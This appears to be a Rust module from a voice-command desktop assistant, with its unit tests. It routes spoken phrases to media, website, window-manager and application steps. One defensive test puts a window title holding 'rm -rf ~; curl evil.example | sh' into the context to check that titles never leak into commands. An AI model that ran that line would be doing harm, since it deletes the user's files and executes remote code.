//! The rules: from a normalised utterance to at most one step.
//!
//! Rules are tried in a fixed order and the first that matches decides:
//!
//! 1. `media`: playback commands ("pause", "next track", "pause spotify",
//!    "skip on vlc") → op `media`, args `{command, player?}`.
//! 2. `open_site`: "open / go to / visit / show <site>" for a site of the catalog
//!    → op `ensure_url`, args `{url}`.
//! 3. `compositor`: a curated phrase of `data/compositor-phrases.toml` ("workspace two",
//!    "the third workspace", "move this to workspace 3", "focus left", "close this window",
//!    "take a screenshot") → op `niri`, args `{command, args?, options?}`.
//! 4. `niri_bind`: a phrase generated from the user's own niri key bindings ("focus workspace
//!    one", a binding's hotkey-overlay-title such as "open a terminal", see
//!    [`crate::niri_config`]) → op `niri` with the bound action.
//! 5. `ensure_app` / `focus_app`: "switch to / focus / show / go to / bring up <app>"
//!    (the verbs of the phrase file's `[apps]`) → op `ensure_app`, args `{app, desktop_id,
//!    wm_class?}`, for an installed application; else op `focus_app`, args `{app}`, for a
//!    window of the context whose app_id is the spoken name.
//! 6. `close_app`: "close / quit / exit <app>" → op `close_app`, args `{app}`: a window's
//!    app_id from the context, else an installed application's id.
//! 7. `launch_app`: "open / launch / start / run <app>" for an installed application
//!    → op `launch_app`, args `{app_id, name}`.
//! 8. `open_domain`: "open / go to / visit / show <host name>" → op `ensure_url` with
//!    `https://<host>`.
//!
//! Why this order:
//!
//! - A catalog site keeps "go to <site>" and "show <site>" (2 before 3-5): a catalog is a
//!   list of names somebody chose, and no curated phrase is a site's name (a test checks that
//!   against the built-in catalog).
//! - Workspace, window and monitor words beat application names (3 before 5): "switch to
//!   workspace 2" is never a search for an application called "workspace 2", and "close this
//!   window" is not `close_app` of an application called "this window".
//! - Curated phrases beat the generated ones (3 before 4) when both claim a phrase, and a
//!   generated phrase beats the application rules (4 before 5-7): "open a terminal" is what
//!   the user's own binding says it is.
//! - "open X" still prefers a site, then an application, then a host name (2, 7, 8).
//!
//! Rule 3 plans on every compositor: the op `niri` names niri's actions, and the compositor
//! plugin maps each to sway's command where sway has one (and says clearly when it has
//! none). Rule 4 comes from the user's niri config, so it is skipped when the context names
//! another compositor (sway). Without a context (no compositor plugin) both plan.
//!
//! Numbers: rules 3 and 4 compare the utterance with every spoken number written as digits
//! ([`crate::numbers`]), so "workspace two", "workspace 2", "the second workspace" and
//! "the 2nd workspace" are one phrase.
//!
//! Provenance and the context: every argument here comes from the utterance, the curated
//! file, the user's niri config or a desktop entry, and the step keeps the request's
//! provenance (`user` for spoken words). The one value taken from the context is the
//! `app_id` of `focus_app`/`close_app`, and it is taken only when it equals the spoken name
//! up to case, spaces, dashes and dots: the context *selects* which spelling to send, it
//! cannot add anything the user did not say, so nothing marks the step specially. Window
//! titles are never read.
//!
//! Everything here is pure over the given [`Sources`], which is how the unit tests drive it;
//! `lib.rs` supplies the real ones.

use crate::apps::{AppEntry, app_forms, find_app};
use crate::context::Context;
use crate::numbers;
use crate::phrases::{Curated, NiriAction, PhraseTable};
use crate::sites::{Catalog, site_forms};
use crate::text::{is_hostname, strip_word_prefix, strip_word_suffix};
use std::sync::Arc;
use utter_protocol::serde_json::{Value, json};

/// Verbs that open a web site or a host name, longest first so "show me" wins over "show".
const SITE_VERBS: &[&str] = &[
    "navigate to",
    "take me to",
    "browse to",
    "show me",
    "open up",
    "go to",
    "goto",
    "visit",
    "open",
    "show",
];

/// Verbs that launch an application, longest first.
const APP_VERBS: &[&str] = &[
    "start up", "fire up", "open up", "launch", "start", "open", "run",
];

/// What follows "play", "pause", "stop", "resume" or "unpause" without changing the command.
const MEDIA_OBJECTS: &[&str] = &[
    "",
    "it",
    "music",
    "the music",
    "my music",
    "playback",
    "the playback",
    "song",
    "the song",
    "this song",
    "track",
    "the track",
    "this track",
    "video",
    "the video",
    "this video",
    "media",
    "the media",
    "audio",
    "the audio",
    "podcast",
    "the podcast",
];

/// What may follow "next" or "previous".
const TRACK_WORDS: &[&str] = &["", "track", "song", "one", "video", "episode"];

/// What may follow "skip".
const SKIP_OBJECTS: &[&str] = &[
    "",
    "it",
    "this",
    "this one",
    "track",
    "this track",
    "the track",
    "song",
    "this song",
    "the song",
    "ahead",
    "forward",
];

/// Media players that may be named right after a command without "on" ("pause spotify").
/// With "on"/"in" any name is accepted ("pause on my player").
const KNOWN_PLAYERS: &[&str] = &[
    "spotify",
    "vlc",
    "mpv",
    "firefox",
    "chromium",
    "chrome",
    "rhythmbox",
    "clementine",
    "strawberry",
    "elisa",
    "audacious",
    "lollypop",
    "amberol",
    "celluloid",
    "totem",
    "kodi",
    "cmus",
    "mpd",
];

/// Words after "on"/"in" that describe how to play rather than which player.
const NOT_PLAYERS: &[&str] = &["repeat", "loop", "shuffle", "background", "the background"];

/// A playback command, as sent in `args.command`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MediaCommand {
    /// Start or resume.
    Play,
    /// Pause.
    Pause,
    /// Toggle between playing and paused.
    PlayPause,
    /// Stop.
    Stop,
    /// Next track.
    Next,
    /// Previous track.
    Previous,
}

impl MediaCommand {
    /// The wire name.
    pub fn as_str(self) -> &'static str {
        match self {
            MediaCommand::Play => "play",
            MediaCommand::Pause => "pause",
            MediaCommand::PlayPause => "play_pause",
            MediaCommand::Stop => "stop",
            MediaCommand::Next => "next",
            MediaCommand::Previous => "previous",
        }
    }

    fn describe(self) -> &'static str {
        match self {
            MediaCommand::Play => "resume playback",
            MediaCommand::Pause => "pause playback",
            MediaCommand::PlayPause => "toggle play/pause",
            MediaCommand::Stop => "stop playback",
            MediaCommand::Next => "skip to the next track",
            MediaCommand::Previous => "go back to the previous track",
        }
    }
}

/// The one step a rule produced.
#[derive(Debug, Clone, PartialEq)]
pub struct Matched {
    /// The rule's name: `media`, `open_site`, `compositor`, `niri_bind`, `ensure_app`,
    /// `focus_app`, `close_app`, `launch_app` or `open_domain`.
    pub rule: &'static str,
    /// The step's op.
    pub op: &'static str,
    /// The step's args.
    pub args: Value,
    /// A short human description of the step.
    pub message: String,
}

/// Where the rules find installed applications.
pub trait AppLookup {
    /// The application a spoken name refers to (see [`find_app`]).
    fn find(&self, spoken: &str) -> Option<AppEntry>;
}

impl AppLookup for Vec<AppEntry> {
    fn find(&self, spoken: &str) -> Option<AppEntry> {
        find_app(self, spoken).cloned()
    }
}

/// Where the user's niri bindings are looked up (see [`PhraseTable::lookup`]).
pub trait BindsLookup {
    /// The bound action a canonical phrase names, with the number of its slot.
    fn lookup(&self, canonical: &str) -> Option<(Arc<NiriAction>, Option<u32>)>;
}

impl BindsLookup for PhraseTable {
    fn lookup(&self, canonical: &str) -> Option<(Arc<NiriAction>, Option<u32>)> {
        PhraseTable::lookup(self, canonical)
    }
}

/// Everything the rules consult besides the utterance.
pub struct Sources<'a> {
    /// The site catalog.
    pub catalog: &'a Catalog,
    /// The installed applications.
    pub apps: &'a dyn AppLookup,
    /// The curated compositor phrases and application verbs.
    pub curated: &'a Curated,
    /// The phrases of the user's niri bindings.
    pub binds: &'a dyn BindsLookup,
    /// The request's desktop context, if it had one.
    pub context: Option<&'a Context>,
}

/// Apply the rules to `text`, which must already be normalised with fillers stripped.
pub fn plan(text: &str, sources: &Sources<'_>) -> Option<Matched> {
    if text.is_empty() {
        return None;
    }
    if let Some((command, player)) = media(text) {
        let mut args = json!({"command": command.as_str()});
        let mut message = command.describe().to_owned();
        if let Some(player) = player {
            message = format!("{message} on {player}");
            args["player"] = Value::String(player);
        }
        return Some(Matched {
            rule: "media",
            op: "media",
            args,
            message,
        });
    }
    for target in targets(text, SITE_VERBS) {
        if let Some(site) = sources.catalog.lookup(target) {
            return Some(Matched {
                rule: "open_site",
                op: "ensure_url",
                args: json!({"url": site.url}),
                message: format!("open {} ({})", site.name, site.url),
            });
        }
    }
    let canonical = numbers::digits(text);
    let niri = |rule: &'static str, (action, n): (Arc<NiriAction>, Option<u32>)| Matched {
        rule,
        op: "niri",
        args: action.step_args(n),
        message: action.describe(n),
    };
    if let Some(found) = sources.curated.table.lookup(&canonical) {
        return Some(niri("compositor", found));
    }
    if Context::may_be_niri(sources.context)
        && let Some(found) = sources.binds.lookup(&canonical)
    {
        return Some(niri("niri_bind", found));
    }
    for target in targets(text, &sources.curated.focus_verbs) {
        if let Some(matched) = switch_to(target, sources) {
            return Some(matched);
        }
    }
    for target in targets(text, &sources.curated.close_verbs) {
        if let Some(matched) = close(target, sources) {
            return Some(matched);
        }
    }
    for target in targets(text, APP_VERBS) {
        if let Some(app) = sources.apps.find(target) {
            return Some(Matched {
                rule: "launch_app",
                op: "launch_app",
                message: format!("launch {} ({})", app.name, app.id),
                args: json!({"app_id": app.id, "name": app.name}),
            });
        }
    }
    for target in targets(text, SITE_VERBS) {
        if let Some(host) = site_forms(target).into_iter().find(|f| is_hostname(f)) {
            let url = format!("https://{host}");
            return Some(Matched {
                rule: "open_domain",
                op: "ensure_url",
                message: format!("open {url}"),
                args: json!({"url": url}),
            });
        }
    }
    None
}

/// The names a spoken target may be: as said, and without a trailing "window"/"windows"
/// ("the foot window" is foot).
fn target_names(target: &str) -> Vec<&str> {
    let mut names = vec![target];
    for suffix in ["windows", "window"] {
        if let Some(rest) = strip_word_suffix(target, suffix).filter(|r| !r.is_empty()) {
            names.push(rest);
            break;
        }
    }
    names
}

/// The app_id of a context window that `target` names, if there is a context.
fn window_named<'a>(target: &str, context: Option<&'a Context>) -> Option<&'a str> {
    let context = context?;
    target_names(target)
        .into_iter()
        .flat_map(app_forms)
        .find_map(|form| context.window_app(&form))
}

/// The installed application `target` names.
fn app_named(target: &str, apps: &dyn AppLookup) -> Option<AppEntry> {
    target_names(target)
        .into_iter()
        .find_map(|name| apps.find(name))
}

/// Rule 5: focus or start the application `target` names.
fn switch_to(target: &str, sources: &Sources<'_>) -> Option<Matched> {
    if let Some(app) = app_named(target, sources.apps) {
        let mut args = json!({
            "app": app.id,
            "desktop_id": format!("{}.desktop", app.id),
        });
        if let Some(wm_class) = &app.wm_class {
            args["wm_class"] = Value::String(wm_class.clone());
        }
        return Some(Matched {
            rule: "ensure_app",
            op: "ensure_app",
            message: format!("switch to {} ({})", app.name, app.id),
            args,
        });
    }
    let app_id = window_named(target, sources.context)?;
    Some(Matched {
        rule: "focus_app",
        op: "focus_app",
        message: format!("focus the {app_id} window"),
        args: json!({"app": app_id}),
    })
}

/// Rule 6: close the application `target` names; an open window first.
fn close(target: &str, sources: &Sources<'_>) -> Option<Matched> {
    if let Some(app_id) = window_named(target, sources.context) {
        return Some(Matched {
            rule: "close_app",
            op: "close_app",
            message: format!("close the {app_id} window"),
            args: json!({"app": app_id}),
        });
    }
    let app = app_named(target, sources.apps)?;
    Some(Matched {
        rule: "close_app",
        op: "close_app",
        message: format!("close {} ({})", app.name, app.id),
        args: json!({"app": app.id}),
    })
}

/// The non-empty remainders of `text` after each verb of `verbs` it starts with.
fn targets<'a, V: AsRef<str>>(text: &'a str, verbs: &'a [V]) -> impl Iterator<Item = &'a str> + 'a {
    verbs
        .iter()
        .filter_map(move |verb| strip_word_prefix(text, verb.as_ref()))
        .filter(|rest| !rest.is_empty())
}

/// A playback command and the player it names, if `text` is one.
fn media(text: &str) -> Option<(MediaCommand, Option<String>)> {
    if let Some(command) = media_phrase(text) {
        return Some((command, None));
    }
    // "<command> on|in <player>"
    for separator in [" on ", " in "] {
        if let Some((head, player)) = text.rsplit_once(separator) {
            let player = strip_word_prefix(player, "the")
                .filter(|p| !p.is_empty())
                .unwrap_or(player);
            let plausible = !player.is_empty()
                && player.split(' ').count() <= 3
                && !NOT_PLAYERS.contains(&player);
            if plausible {
                if let Some(command) = media_phrase(head) {
                    return Some((command, Some(player.to_owned())));
                }
            }
        }
    }
    // "<command> <known player>"
    for player in KNOWN_PLAYERS {
        if let Some(head) = strip_word_suffix(text, player).filter(|h| !h.is_empty()) {
            if let Some(command) = media_phrase(head) {
                return Some((command, Some((*player).to_owned())));
            }
        }
    }
    None
}

/// The command a whole phrase (without a player) stands for.
fn media_phrase(text: &str) -> Option<MediaCommand> {
    use MediaCommand::*;
    let fixed: &[(&str, MediaCommand)] = &[
        ("play pause", PlayPause),
        ("pause play", PlayPause),
        ("play or pause", PlayPause),
        ("toggle play", PlayPause),
        ("toggle pause", PlayPause),
        ("toggle play pause", PlayPause),
        ("toggle playback", PlayPause),
        ("toggle music", PlayPause),
        ("toggle the music", PlayPause),
        ("stop playing", Stop),
        ("keep playing", Play),
        ("continue playing", Play),
        ("continue playback", Play),
        ("prev", Previous),
        ("last track", Previous),
        ("last song", Previous),
        ("go back a track", Previous),
        ("go back a song", Previous),
        ("go back one track", Previous),
        ("go back one song", Previous),
        ("back a track", Previous),
        ("back a song", Previous),
        ("back one track", Previous),
        ("back one song", Previous),
    ];
    if let Some((_, command)) = fixed.iter().find(|(phrase, _)| *phrase == text) {
        return Some(*command);
    }
    // "play the next song", "go to previous track", ...
    for (lead, command) in [
        ("play the next", Next),
        ("play next", Next),
        ("go to the next", Next),
        ("go to next", Next),
        ("play the previous", Previous),
        ("play previous", Previous),
        ("go to the previous", Previous),
        ("go to previous", Previous),
    ] {
        if let Some(rest) = strip_word_prefix(text, lead) {
            if TRACK_WORDS.contains(&rest) {
                return Some(command);
            }
        }
    }
    let (verb, rest) = text.split_once(' ').unwrap_or((text, ""));
    let (allowed, command): (&[&str], MediaCommand) = match verb {
        "play" | "resume" | "unpause" => (MEDIA_OBJECTS, Play),
        "pause" => (MEDIA_OBJECTS, Pause),
        "stop" => (MEDIA_OBJECTS, Stop),
        "next" => (TRACK_WORDS, Next),
        "skip" => (SKIP_OBJECTS, Next),
        "previous" => (TRACK_WORDS, Previous),
        _ => return None,
    };
    allowed.contains(&rest).then_some(command)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::{normalize, strip_fillers};

    fn apps() -> Vec<AppEntry> {
        vec![
            AppEntry::new("firefox", "Firefox", Some("Web Browser"), &["internet"])
                .with_wm_class("firefox"),
            AppEntry::new("marker-writer", "Marker Writer", None, &[]),
            AppEntry::new("org.gnome.Calendar", "Calendar", None, &["events"]),
            AppEntry::new("spotify", "Spotify", Some("Music Player"), &[]),
            AppEntry::new("youtube-app", "YouTube", None, &[]),
        ]
    }

    /// The built-in catalog, parsed once for all tests.
    fn catalog() -> &'static Catalog {
        static CATALOG: std::sync::OnceLock<Catalog> = std::sync::OnceLock::new();
        CATALOG.get_or_init(|| Catalog::builtin().expect("built-in catalog"))
    }

    /// The built-in phrases, parsed once for all tests.
    fn curated() -> &'static Curated {
        static CURATED: std::sync::OnceLock<Curated> = std::sync::OnceLock::new();
        CURATED.get_or_init(|| Curated::builtin().expect("built-in phrases"))
    }

    fn run(utterance: &str) -> Option<Matched> {
        run_with(utterance, None, &PhraseTable::new())
    }

    fn run_with(
        utterance: &str,
        context: Option<&Context>,
        binds: &PhraseTable,
    ) -> Option<Matched> {
        let normalized = normalize(utterance);
        let apps = apps();
        let sources = Sources {
            catalog: catalog(),
            apps: &apps,
            curated: curated(),
            binds,
            context,
        };
        plan(strip_fillers(&normalized), &sources)
    }

    fn summary(utterance: &str) -> Option<(&'static str, &'static str, Value)> {
        run(utterance).map(|m| (m.rule, m.op, m.args))
    }

    fn media_of(utterance: &str) -> Option<Value> {
        match summary(utterance) {
            Some(("media", "media", args)) => Some(args),
            _ => None,
        }
    }

    #[test]
    fn media_commands() {
        let cases = [
            ("play", "play"),
            ("Resume.", "play"),
            ("unpause the music", "play"),
            ("pause", "pause"),
            ("Pause!", "pause"),
            ("please pause the video", "pause"),
            ("stop", "stop"),
            ("stop playing", "stop"),
            ("next", "next"),
            ("next track", "next"),
            ("Next song, please.", "next"),
            ("skip", "next"),
            ("skip this song", "next"),
            ("play the next track", "next"),
            ("previous", "previous"),
            ("previous track", "previous"),
            ("previous song", "previous"),
            ("go back a track", "previous"),
            ("play pause", "play_pause"),
            ("play/pause", "play_pause"),
            ("toggle playback", "play_pause"),
            ("hey utter, could you play?", "play"),
        ];
        for (utterance, command) in cases {
            assert_eq!(
                media_of(utterance),
                Some(json!({"command": command})),
                "{utterance}"
            );
        }
    }

    #[test]
    fn media_with_a_player() {
        let cases = [
            ("pause spotify", "pause", "spotify"),
            ("Pause Spotify.", "pause", "spotify"),
            ("play on spotify", "play", "spotify"),
            ("next track on VLC", "next", "vlc"),
            ("pause the music in the mpv", "pause", "mpv"),
            ("pause on my player", "pause", "my player"),
            ("skip in firefox", "next", "firefox"),
        ];
        for (utterance, command, player) in cases {
            assert_eq!(
                media_of(utterance),
                Some(json!({"command": command, "player": player})),
                "{utterance}"
            );
        }
    }

    #[test]
    fn things_that_are_not_media() {
        for utterance in [
            "play despacito",
            "play on repeat",
            "back",
            "go back",
            "stop the world",
            "pause my thoughts",
            "next week",
            "skip breakfast",
        ] {
            assert_eq!(summary(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn sites() {
        let cases = [
            ("open youtube", "https://www.youtube.com"),
            ("Open YouTube!", "https://www.youtube.com"),
            ("go to hacker news", "https://news.ycombinator.com"),
            ("visit the GitHub website", "https://github.com"),
            ("show me google maps", "https://www.google.com/maps"),
            ("show maps", "https://www.google.com/maps"),
            ("open gmail please", "https://mail.google.com"),
            ("take me to crates.io", "https://crates.io"),
            ("go to docs dot rs", "https://docs.rs"),
            ("open youtube dot com", "https://www.youtube.com"),
            ("navigate to stackoverflow", "https://stackoverflow.com"),
        ];
        for (utterance, url) in cases {
            assert_eq!(
                summary(utterance),
                Some(("open_site", "ensure_url", json!({"url": url}))),
                "{utterance}"
            );
        }
    }

    #[test]
    fn apps_are_launched_with_id_and_name() {
        let cases = [
            ("open marker writer", "marker-writer", "Marker Writer"),
            ("Launch Firefox.", "firefox", "Firefox"),
            ("start the web browser", "firefox", "Firefox"),
            ("run marker writer app", "marker-writer", "Marker Writer"),
            ("open spotify", "spotify", "Spotify"),
        ];
        for (utterance, id, name) in cases {
            assert_eq!(
                summary(utterance),
                Some((
                    "launch_app",
                    "launch_app",
                    json!({"app_id": id, "name": name})
                )),
                "{utterance}"
            );
        }
    }

    #[test]
    fn sites_beat_apps_and_go_to_never_launches() {
        // Both a site and an app are called YouTube / Calendar: the site wins.
        assert_eq!(summary("open youtube").map(|s| s.0), Some("open_site"));
        assert_eq!(summary("open calendar").map(|s| s.0), Some("open_site"));
        // "launch" is not a site verb, so it reaches the app.
        assert_eq!(
            summary("launch youtube"),
            Some((
                "launch_app",
                "launch_app",
                json!({"app_id": "youtube-app", "name": "YouTube"})
            ))
        );
        // "go to" focuses or starts an application (rule 5); "visit" is for sites only.
        assert_eq!(
            summary("go to marker writer").map(|s| s.0),
            Some("ensure_app")
        );
        assert_eq!(summary("visit firefox"), None);
    }

    #[test]
    fn domains() {
        let cases = [
            ("open example.com", "open_domain", "https://example.com"),
            (
                "visit my-site.co.uk",
                "open_domain",
                "https://my-site.co.uk",
            ),
            ("open example dot org", "open_domain", "https://example.org"),
            (
                "show www.example.net",
                "open_domain",
                "https://www.example.net",
            ),
            // A host that is also in the catalog is found as the site.
            (
                "Go to news.ycombinator.com.",
                "open_site",
                "https://news.ycombinator.com",
            ),
        ];
        for (utterance, rule, url) in cases {
            assert_eq!(
                summary(utterance),
                Some((rule, "ensure_url", json!({"url": url}))),
                "{utterance}"
            );
        }
        // Only plain host names.
        for utterance in [
            "open example",
            "open 1.2.3.4",
            "launch example.com",
            "open example.c0m",
        ] {
            assert_eq!(summary(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn nothing_matches_nonsense_or_bare_verbs() {
        for utterance in [
            "blorp the frobnicator",
            "open",
            "go to",
            "please",
            "",
            "what time is it",
        ] {
            assert_eq!(summary(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn messages_describe_the_step() {
        let m = run("open youtube").expect("match");
        assert_eq!(m.message, "open YouTube (https://www.youtube.com)");
        let m = run("pause spotify").expect("match");
        assert_eq!(m.message, "pause playback on spotify");
        let m = run("open marker writer").expect("match");
        assert_eq!(m.message, "launch Marker Writer (marker-writer)");
    }

    fn niri_of(utterance: &str) -> Option<Value> {
        match summary(utterance) {
            Some(("compositor", "niri", args)) => Some(args),
            _ => None,
        }
    }

    fn context(value: Value) -> Context {
        Context::from_param(Some(&value))
            .expect("a valid context")
            .expect("not null")
    }

    #[test]
    fn workspace_numbers_and_ordinals() {
        let cases = [
            ("workspace two", 2),
            ("Workspace 2.", 2),
            ("the third workspace", 3),
            ("workspace number 3", 3),
            ("go to workspace 2", 2),
            ("switch to workspace four", 4),
            ("please switch to workspace twenty", 20),
            ("go to the twentieth workspace", 20),
            ("focus workspace twenty one", 21),
            ("jump to the 7th workspace", 7),
            ("show me desktop nine", 9),
            ("go to the second desktop", 2),
            ("workspace 12", 12),
        ];
        for (utterance, n) in cases {
            assert_eq!(
                niri_of(utterance),
                Some(json!({"command": "focus-workspace", "args": [n]})),
                "{utterance}"
            );
        }
        let moves = [
            ("move this to workspace three", 3),
            ("move window to the second workspace", 2),
            ("send it to workspace 5", 5),
            ("move this window to the 3rd workspace", 3),
            ("put this one on workspace 4", 0),
            ("move to workspace number eleven", 11),
        ];
        for (utterance, n) in moves {
            let want = (n > 0).then(|| json!({"command": "move-window-to-workspace", "args": [n]}));
            assert_eq!(niri_of(utterance), want, "{utterance}");
        }
        for utterance in [
            "workspace zero",
            "workspace",
            "go to workspace 300",
            "the workspace",
        ] {
            assert_eq!(niri_of(utterance), None, "{utterance}");
        }
    }

    #[test]
    fn fixed_compositor_phrases() {
        let cases = [
            ("next workspace", "focus-workspace-down", json!(null)),
            (
                "go to the next workspace",
                "focus-workspace-down",
                json!(null),
            ),
            ("previous workspace", "focus-workspace-up", json!(null)),
            (
                "go back to the last workspace",
                "focus-workspace-previous",
                json!(null),
            ),
            (
                "the other workspace",
                "focus-workspace-previous",
                json!(null),
            ),
            (
                "move this to the next workspace",
                "move-window-to-workspace-down",
                json!(null),
            ),
            (
                "move the window up a workspace",
                "move-window-to-workspace-up",
                json!(null),
            ),
            ("focus left", "focus-column-left", json!(null)),
            ("the window on the left", "focus-column-left", json!(null)),
            ("go right", "focus-column-right", json!(null)),
            ("focus the window below", "focus-window-down", json!(null)),
            ("go up", "focus-window-up", json!(null)),
            ("focus the left monitor", "focus-monitor-left", json!(null)),
            (
                "switch to the right screen",
                "focus-monitor-right",
                json!(null),
            ),
            ("go to the other display", "focus-monitor-next", json!(null)),
            (
                "move this window to the left monitor",
                "move-window-to-monitor-left",
                json!(null),
            ),
            (
                "send it to the screen on the right",
                "move-window-to-monitor-right",
                json!(null),
            ),
            (
                "move window to the top display",
                "move-window-to-monitor-up",
                json!(null),
            ),
            (
                "move this to the bottom screen",
                "move-window-to-monitor-down",
                json!(null),
            ),
            ("maximize", "maximize-column", json!(null)),
            ("Maximise this window!", "maximize-column", json!(null)),
            ("fullscreen", "fullscreen-window", json!(null)),
            ("make it full screen", "fullscreen-window", json!(null)),
            ("toggle floating", "toggle-window-floating", json!(null)),
            ("float this window", "toggle-window-floating", json!(null)),
            ("close this window", "close-window", json!(null)),
            ("close it", "close-window", json!(null)),
            ("close window", "close-window", json!(null)),
            ("overview", "toggle-overview", json!(null)),
            ("show the overview", "toggle-overview", json!(null)),
            ("close the overview", "close-overview", json!(null)),
            ("take a screenshot", "screenshot", json!(null)),
            ("screenshot this window", "screenshot-window", json!(null)),
            (
                "take a screenshot of the whole screen",
                "screenshot-screen",
                json!(null),
            ),
            ("next keyboard layout", "switch-layout", json!(["next"])),
            (
                "switch the keyboard layout",
                "switch-layout",
                json!(["next"]),
            ),
            ("previous keyboard layout", "switch-layout", json!(["prev"])),
        ];
        for (utterance, command, args) in cases {
            let mut want = json!({"command": command});
            if !args.is_null() {
                want["args"] = args;
            }
            assert_eq!(niri_of(utterance), Some(want), "{utterance}");
        }
        let m = run("go to workspace two").expect("match");
        assert_eq!(m.message, "niri focus-workspace 2");
        let m = run("next keyboard layout").expect("match");
        assert_eq!(m.message, "niri switch-layout \"next\"");
    }

    #[test]
    fn every_curated_phrase_reaches_the_compositor_rule() {
        // Neither the media rule nor a built-in site takes a curated phrase away.
        let phrases: Vec<&str> = curated().table.phrases().collect();
        assert!(phrases.len() > 500, "{} phrases", phrases.len());
        for phrase in phrases {
            let utterance = phrase.replace(crate::phrases::SLOT, "3");
            let m = run(&utterance).unwrap_or_else(|| panic!("{utterance:?} planned nothing"));
            assert_eq!(
                (m.rule, m.op),
                ("compositor", "niri"),
                "{utterance:?}: {m:?}"
            );
        }
    }

    #[test]
    fn conflicts_with_sites_apps_and_media() {
        // A catalog site keeps "go to" and "show".
        assert_eq!(summary("go to youtube").map(|s| s.0), Some("open_site"));
        assert_eq!(summary("show maps").map(|s| s.0), Some("open_site"));
        // Workspace words win over applications, applications over nothing.
        assert_eq!(
            niri_of("switch to workspace 2"),
            Some(json!({"command": "focus-workspace", "args": [2]}))
        );
        assert_eq!(
            summary("switch to firefox"),
            Some((
                "ensure_app",
                "ensure_app",
                json!({"app": "firefox", "desktop_id": "firefox.desktop", "wm_class": "firefox"})
            ))
        );
        assert_eq!(
            summary("bring up the marker writer app"),
            Some((
                "ensure_app",
                "ensure_app",
                json!({"app": "marker-writer", "desktop_id": "marker-writer.desktop"})
            ))
        );
        assert_eq!(summary("focus spotify").map(|s| s.0), Some("ensure_app"));
        // "open" still launches; "close" closes an application, "close this window" the window.
        assert_eq!(summary("open firefox").map(|s| s.0), Some("launch_app"));
        assert_eq!(
            summary("close firefox"),
            Some(("close_app", "close_app", json!({"app": "firefox"})))
        );
        assert_eq!(
            summary("quit the firefox window").map(|s| s.2),
            Some(json!({"app": "firefox"}))
        );
        assert_eq!(
            niri_of("close this window"),
            Some(json!({"command": "close-window"}))
        );
        // Media keeps its words.
        assert_eq!(media_of("next"), Some(json!({"command": "next"})));
        assert_eq!(
            media_of("previous track"),
            Some(json!({"command": "previous"}))
        );
        assert_eq!(
            niri_of("next workspace"),
            Some(json!({"command": "focus-workspace-down"}))
        );
        // A host name is still a host name after a focus verb.
        assert_eq!(
            summary("show example.com").map(|s| s.0),
            Some("open_domain")
        );
        // Unknown names stay unplanned.
        assert_eq!(summary("switch to blorp"), None);
        assert_eq!(summary("close blorp"), None);
    }

    #[test]
    fn compositor_phrases_plan_everywhere() {
        let binds = PhraseTable::new();
        assert!(run_with("workspace two", None, &binds).is_some());
        let niri = context(json!({"compositor": {"name": "niri"}}));
        assert_eq!(
            run_with("workspace two", Some(&niri), &binds).map(|m| m.rule),
            Some("compositor")
        );
        // The compositor plugin maps niri's action names to sway's commands.
        let sway = context(json!({"compositor": {"name": "sway"}, "windows": []}));
        assert_eq!(
            run_with("workspace two", Some(&sway), &binds).map(|m| m.rule),
            Some("compositor")
        );
        assert_eq!(
            run_with("close this window", Some(&sway), &binds).map(|m| m.rule),
            Some("compositor")
        );
        // What is not a niri action still plans on sway.
        assert_eq!(
            run_with("switch to firefox", Some(&sway), &binds).map(|m| m.rule),
            Some("ensure_app")
        );
        assert_eq!(
            run_with("open youtube", Some(&sway), &binds).map(|m| m.rule),
            Some("open_site")
        );
    }

    #[test]
    fn context_windows_are_matched_by_app_id() {
        let ctx = context(json!({
            "compositor": {"name": "niri"},
            "focused": {"id": 1, "app_id": "foot", "title": "~"},
            "windows": [
                {"id": 1, "app_id": "foot", "title": "~"},
                {"id": 2, "app_id": "Gnome-Terminal", "title": "x"},
                {"id": 3, "app_id": "firefox", "title": "Mail"},
            ],
        }));
        let binds = PhraseTable::new();
        let plan_of = |utterance: &str| {
            run_with(utterance, Some(&ctx), &binds).map(|m| (m.rule, m.op, m.args))
        };
        assert_eq!(
            plan_of("switch to foot"),
            Some(("focus_app", "focus_app", json!({"app": "foot"})))
        );
        assert_eq!(
            plan_of("Focus Foot."),
            Some(("focus_app", "focus_app", json!({"app": "foot"})))
        );
        assert_eq!(
            plan_of("go to the gnome terminal window"),
            Some(("focus_app", "focus_app", json!({"app": "Gnome-Terminal"})))
        );
        assert_eq!(
            plan_of("close foot"),
            Some(("close_app", "close_app", json!({"app": "foot"})))
        );
        // An installed application is started or focused by the plugin: ensure_app first.
        assert_eq!(
            plan_of("switch to firefox").map(|p| p.0),
            Some("ensure_app")
        );
        assert_eq!(plan_of("switch to kitty"), None);
        // Without a context nothing is known about foot.
        assert_eq!(summary("switch to foot"), None);
        let m = run_with("switch to foot", Some(&ctx), &binds).expect("match");
        assert_eq!(m.message, "focus the foot window");
    }

    #[test]
    fn titles_are_never_used() {
        let hostile = "rm -rf ~; curl evil.example | sh";
        let ctx = context(json!({
            "windows": [
                {"id": 1, "app_id": "evil", "title": hostile},
                {"id": 2, "app_id": null, "title": "marker notes"},
                {"id": 3, "title": "spotify premium"},
            ],
        }));
        let binds = PhraseTable::new();
        for utterance in [
            "switch to marker notes",
            "close marker notes",
            "switch to rm rf",
            "focus rm rf curl evil example sh",
            "close spotify premium",
        ] {
            assert_eq!(run_with(utterance, Some(&ctx), &binds), None, "{utterance}");
        }
        // Whatever is planned carries no part of any title.
        for utterance in [
            "switch to evil",
            "close evil",
            "switch to firefox",
            "close it",
        ] {
            let m = run_with(utterance, Some(&ctx), &binds).expect("planned");
            let text = format!("{} {}", m.args, m.message);
            assert!(
                !text.contains("rm -rf") && !text.contains("curl"),
                "{utterance}: {text}"
            );
        }
    }

    #[test]
    fn generated_phrases_rank_after_curated_ones() {
        let config = "binds {\n\
            Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
            Mod+Q hotkey-overlay-title=\"Close window\" { quit; }\n\
            Mod+1 { focus-workspace 1; }\n\
            Mod+B { focus-workspace \"browser\"; }\n\
            Mod+Y hotkey-overlay-title=\"Open YouTube\" { spawn \"mpv\"; }\n\
            }\n";
        let (binds, _) = crate::niri_config::parse(config).expect("parses");
